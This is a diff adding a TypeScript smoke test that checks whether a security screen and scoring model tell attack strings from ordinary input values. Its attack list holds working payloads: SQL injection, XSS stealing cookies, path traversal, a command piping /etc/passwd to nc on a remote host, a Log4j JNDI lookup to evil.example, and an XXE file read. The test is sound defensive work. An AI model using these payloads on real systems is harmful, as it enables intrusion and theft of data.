@@ -1,0 +1,60 @@
+import { loadBundle } from "../../inference-sidecar/src/bundle.ts";
+import { loadCore } from "../core.ts";
+import { loadScorer } from "./shipped-model.ts";
+
+/** A few of each kind that no gate may get wrong: this tells a model that works from one that doesn't, and measures nothing. */
+const attacks = [
+  "1' UNION SELECT username, password FROM users --",
+  "<script>alert(document.cookie)</script>",
+  "../../../../etc/passwd",
+  "; cat /etc/passwd | nc 10.0.0.1 4444",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup of Log4j, not a template
+  "${jndi:ldap://evil.example/a}",
+  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+];
+const ordinary = [
+  "blue shoes, size 42",
+  "kim@example.org",
+  "2026-11-26",
+  "I'd like the blue one, please.",
+  "f47ac10b-58cc-4372-a567-0e02b2c3d479",
+  "en-GB,en;q=0.9",
+];
+/** So many of six may come out wrong: thresholds are a matter of taste, an inert model is not. */
+const wrongMost = 1;
+const bothEnds = 3;
+
+/**
+ * Judges a few values by the screen alone and by the model alone, as filter and sidecar would.
+ * @throws Error the bundle can't be used, or one of the two doesn't tell attacks from ordinary values
+ */
+export async function smokeTest(bundleDirectory: string): Promise<void> {
+  const { thresholds } = await loadBundle(bundleDirectory);
+  const core = await loadCore(bundleDirectory);
+  const score = await loadScorer(bundleDirectory);
+  const screen = async (value: string) => core.screen([Buffer.from(value)])[0]?.millionths ?? 0;
+  const model = async (value: string) =>
+    (await score([{ bytes: Buffer.from(value), edges: bothEnds }]))[0]?.attackMillionths ?? 0;
+  const { clearBelow, denyAlone, modelDeny } = thresholds;
+  await tellsApart("screen", screen, clearBelow, denyAlone);
+  await tellsApart("model", model, modelDeny, modelDeny);
+}
+
+/** Attacks score from `attackFrom` on, ordinary values below `ordinaryBelow`. */
+async function tellsApart(
+  part: string,
+  score: (value: string) => Promise<number>,
+  attackFrom: number,
+  ordinaryBelow: number,
+): Promise<void> {
+  const missed = await wrong(attacks, async (value) => (await score(value)) < attackFrom);
+  const blamed = await wrong(ordinary, async (value) => (await score(value)) >= ordinaryBelow);
+  if (missed.length > wrongMost) throw new Error(`its ${part} takes attacks for ordinary values: ${missed.join("  ")}`);
+  if (blamed.length > wrongMost) throw new Error(`its ${part} takes ordinary values for attacks: ${blamed.join("  ")}`);
+}
+
+async function wrong(values: readonly string[], isWrong: (value: string) => Promise<boolean>): Promise<string[]> {
+  const found: string[] = [];
+  for (const value of values) if (await isWrong(value)) found.push(value);
+  return found;
+}
